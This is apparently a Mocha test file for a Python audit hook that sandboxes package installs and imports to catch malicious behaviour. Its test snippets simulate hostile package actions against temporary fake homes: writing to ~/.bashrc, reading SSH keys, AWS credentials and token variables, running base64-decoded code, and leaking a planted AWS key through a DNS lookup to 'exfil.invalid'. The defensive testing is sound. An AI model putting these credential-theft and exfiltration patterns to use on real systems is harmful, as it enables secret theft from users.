import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parseHookMarkers, parseProbeEvents, type ProbeEvent } from '../../../../src/core/packages/gate/probe';
import { findPythonHelpersDir } from '../../../../src/core/pythonHelpers';

/**
 * The audit hook itself, in the host's python3 running only the short snippets below (no package
 * code): what it records, what it refuses, and what it leaves alone. The sandboxed runs with the
 * fixture packages are in test/integration/packages/probe.test.ts.
 */
describe('snakepit_probe audit hook (host python3, test snippets only)', function () {
  this.timeout(20_000);
  let dir: string;
  let home: string;
  let tmp: string;
  let runs = 0;

  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'snakepit-hook-'));
    home = path.join(dir, 'home');
    tmp = path.join(dir, 'tmp');
    fs.mkdirSync(home);
    fs.mkdirSync(tmp);
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  function probe(code: string, phase = 'import', extraEnv: Record<string, string> = {}): { events: ProbeEvent[]; stdout: string; status: number | null } {
    const run = ++runs;
    const events = path.join(dir, `events-${run}.jsonl`);
    const snippet = path.join(dir, `snippet_${run}.py`);
    fs.writeFileSync(snippet, code);
    const bootstrap = `import runpy, snakepit_probe.hook as h\nh.install_from_env()\nrunpy.run_path(${JSON.stringify(snippet)}, run_name="__main__")`;
    const result = spawnSync('python3', ['-c', bootstrap], {
      cwd: dir,
      encoding: 'utf8',
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', PYTHONDONTWRITEBYTECODE: '1', PYTHONPATH: findPythonHelpersDir(), HOME: home, TMPDIR: tmp, SNAKEPIT_PROBE_EVENTS: events, SNAKEPIT_PROBE_PHASE: phase, SNAKEPIT_PROBE_MODULE: 'snippet', ...extraEnv },
    });
    assert.equal(result.stderr, '', result.stderr);
    return { events: fs.existsSync(events) ? parseProbeEvents(fs.readFileSync(events, 'utf8')) : [], stdout: result.stdout, status: result.status };
  }

  it('refuses a write into the home at import, records it, and leaves no file', () => {
    const { events, stdout } = probe(`
import os
try:
    open(os.path.expanduser("~/.bashrc"), "a").write("x")
except PermissionError as e:
    print("refused:", e)
`);
    assert.match(stdout, /refused: snakepit probe: open/);
    assert.deepEqual(events.map((e) => [e.event, e.kind, e.blocked, e.module]), [['open', 'write', true, 'snippet']]);
    assert.equal(events[0].detail, `open('a') ${fs.realpathSync(home)}/.bashrc`);
    assert.equal(fs.existsSync(path.join(home, '.bashrc')), false);
  });

  it('lets writes into the temp dir and ~/.cache through without an event, rmtree with dir_fd included', () => {
    const { events, stdout } = probe(`
import os, shutil, tempfile
os.makedirs(os.path.expanduser("~/.cache/pkg"))
open(os.path.expanduser("~/.cache/pkg/c"), "w").write("x")
work = tempfile.mkdtemp()
os.makedirs(os.path.join(work, "a", "b"))
open(os.path.join(work, "a", "b", "f"), "w").write("x")
shutil.rmtree(work)
print("done")
`);
    assert.equal(stdout.trim(), 'done');
    assert.deepEqual(events, []);
  });

  it('install records a process without refusing it; import refuses it', () => {
    const spawn = 'import subprocess\nprint(subprocess.run(["true"]).returncode)';
    const install = probe(spawn, 'install');
    assert.equal(install.stdout.trim(), '0');
    assert.deepEqual(install.events.map((e) => [e.event, e.blocked ?? false]), [['subprocess.Popen', false]]);
    const imported = probe(`try:\n    ${spawn.replace('\n', '\n    ')}\nexcept PermissionError:\n    print("refused")`, 'import');
    assert.equal(imported.stdout.trim(), 'refused');
    assert.deepEqual(imported.events.map((e) => [e.event, e.detail, e.blocked]), [['subprocess.Popen', 'true', true]]);
  });

  it('blocks lookups and connects but not a bind to loopback', () => {
    const { events, stdout } = probe(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.bind(("127.0.0.1", 0)); s.close()
for call in (lambda: socket.getaddrinfo("exfil.invalid", 80), lambda: socket.create_connection(("127.0.0.1", 9), timeout=1)):
    try:
        call()
    except PermissionError:
        print("refused")
`);
    assert.equal(stdout.trim(), 'refused\nrefused');
    assert.deepEqual(events.map((e) => `${e.event} ${e.detail}`), ['socket.getaddrinfo exfil.invalid:80', 'socket.getaddrinfo 127.0.0.1:9']);
  });

  it('lets ctypes.util.find_library run its lookup tools at import, recorded as a library lookup; importing ctypes records nothing', () => {
    const { events, stdout } = probe(`
import ctypes, ctypes.util
print(ctypes.util.find_library("c"))
`);
    assert.match(stdout, /libc\.so/);
    assert.ok(events.length >= 1, 'ldconfig -p is recorded');
    for (const e of events) assert.deepEqual([e.kind, e.libraryLookup, e.blocked ?? false], ['process', true, false], JSON.stringify(e));
    assert.ok(!events.some((e) => e.kind === 'native'), 'ctypes\' own PyDLL(None) is not the package\'s dlopen');
  });

  it('with the sinkhole in, names resolve to 198.18/15 (recorded, not refused); the connection is refused and names the name', () => {
    const { events, stdout } = probe(`
import socket
from snakepit_probe import sinkhole
sinkhole.install()
info = socket.getaddrinfo("exfil.invalid", 443, type=socket.SOCK_STREAM)
print(info[0][4][0], socket.gethostbyname("exfil.invalid"), socket.gethostbyname("other.invalid"))
try:
    socket.create_connection(("exfil.invalid", 443), timeout=1)
except PermissionError:
    print("refused")
`);
    assert.deepEqual(stdout.trim().split('\n'), ['198.18.0.1 198.18.0.1 198.18.0.2', 'refused']);
    const lookups = events.filter((e) => e.sinkhole);
    assert.ok(lookups.length >= 3 && lookups.every((e) => e.blocked !== true && e.kind === 'network'));
    const connect = events.find((e) => e.event === 'socket.connect');
    assert.equal(connect?.blocked, true);
    assert.equal(connect?.detail, '198.18.0.1:443 (exfil.invalid)');
  });

  it('starts the events with a marker: the pid it watches and from when, its allowed dirs and home; events carry times', () => {
    const events = path.join(dir, 'marker.jsonl');
    spawnSync('python3', ['-c', 'import snakepit_probe.hook as h, os\nh.install_from_env()\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()'], {
      cwd: dir,
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', PYTHONPATH: findPythonHelpersDir(), HOME: home, TMPDIR: tmp, SNAKEPIT_PROBE_EVENTS: events, SNAKEPIT_PROBE_PHASE: 'import' },
    });
    const text = fs.readFileSync(events, 'utf8');
    const [marker] = parseHookMarkers(text);
    assert.ok(marker && marker.pid > 0 && marker.t > 1e9, text);
    assert.equal(marker.home, fs.realpathSync(home));
    assert.ok(marker.allowed?.includes(fs.realpathSync(tmp)));
    const [read] = parseProbeEvents(text);
    assert.equal(read.kind, 'sensitive-read');
    assert.ok(read.pid === marker.pid && read.t !== undefined && read.t >= marker.t);
  });

  it('records token variables read by name, not a copy of the whole environment', () => {
    const { events } = probe(`
import os
env = dict(os.environ)
copy = os.environ.copy()
os.environ.get("GITHUB_TOKEN")
os.getenv("MY_API_KEY")
"NPM_TOKEN" in os.environ
os.environ.get("HOME")
`, 'import', { GITHUB_TOKEN: 'decoy' });
    assert.deepEqual(events.map((e) => e.detail), ['GITHUB_TOKEN (set)', 'MY_API_KEY (unset)', 'NPM_TOKEN (unset)']);
  });

  it('marks exec of decoded data, not strings the code wrote itself, and ignores the standard library’s own', () => {
    const { events } = probe(`
import base64, collections, dataclasses
exec("def f():\\n    return 1")
payload = base64.b64decode("eCA9IDE=")
exec(payload)
Point = collections.namedtuple("Point", "x y")
@dataclasses.dataclass
class A:
    x: int = 0
`);
    assert.deepEqual(events.map((e) => [e.event, e.decoded ?? false]), [['compile', false], ['compile', true]]);
    assert.match(events[1].detail, /^x = 1 \| called by: exec\(payload\)/);
    assert.match(events[1].origin ?? '', /snippet_\d+\.py:5$/);
  });

  it('reads of sensitive files are recorded with the resolved path', () => {
    fs.mkdirSync(path.join(home, '.ssh'));
    fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'not a key');
    const { events } = probe('import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()\nos.listdir(os.path.expanduser("~/.aws")) if False else None');
    assert.deepEqual(events.map((e) => `${e.kind} ${e.detail}`), [`sensitive-read ${fs.realpathSync(home)}/.ssh/id_rsa`]);
  });

  it('is installed in any interpreter by the startup sitecustomize on PYTHONPATH, and inert without an events file', () => {
    const events = path.join(dir, 'startup.jsonl');
    const code = 'import socket\ntry:\n    socket.gethostbyname("a.invalid")\nexcept OSError as e:\n    print(type(e).__name__)';
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', PYTHONDONTWRITEBYTECODE: '1', PYTHONPATH: path.join(findPythonHelpersDir(), 'snakepit_probe', 'startup'), HOME: home };
    const hooked = spawnSync('python3', ['-c', code], { encoding: 'utf8', env: { ...env, SNAKEPIT_PROBE_EVENTS: events, SNAKEPIT_PROBE_PHASE: 'import' } });
    assert.equal(hooked.stdout.trim(), 'PermissionError', hooked.stderr);
    assert.deepEqual(parseProbeEvents(fs.readFileSync(events, 'utf8')).map((e) => [e.event, e.blocked]), [['socket.gethostbyname', true]]);
    const inert = spawnSync('python3', ['-c', 'import sys; print(sys.modules["snakepit_probe.hook"]._config is None)'], { encoding: 'utf8', env });
    assert.equal(inert.stdout.trim(), 'True', `loaded by sitecustomize but not installed: ${inert.stderr}`);
  });

  it('plants fake credentials in the home and the environment, and marks an event that carries one as bait', () => {
    const { events, stdout } = probe(`
import os, socket
key = [l.split("=")[1].strip() for l in open(os.path.expanduser("~/.aws/credentials")) if l.startswith("aws_access_key_id")][0]
print(key == os.environ["AWS_ACCESS_KEY_ID"], os.path.exists(os.path.expanduser("~/.ssh/id_rsa")))
for host in ("%s.exfil.invalid" % key.lower(), "innocent.invalid"):
    try:
        socket.getaddrinfo(host, 53)
    except PermissionError:
        pass
`);
    assert.equal(stdout.trim(), 'True True');
    const lookups = events.filter((e) => e.event === 'socket.getaddrinfo');
    assert.deepEqual(lookups.map((e) => [e.detail.replace(/^akia[a-z0-9]+\./, 'KEY.'), e.bait ?? false]), [['KEY.exfil.invalid:53', true], ['innocent.invalid:53', false]]);
    assert.ok(events.some((e) => e.kind === 'sensitive-read' && e.detail.endsWith('/.aws/credentials')));
  });

  it('leaves the events of a process killed mid-way, one flushed line per event', () => {
    const { events, status } = probe('import os, signal, socket\ntry:\n    socket.gethostbyname("a.invalid")\nexcept PermissionError:\n    pass\nos.kill(os.getpid(), signal.SIGKILL)');
    assert.equal(status, null);
    assert.deepEqual(events.map((e) => e.event), ['socket.gethostbyname']);
  });
});
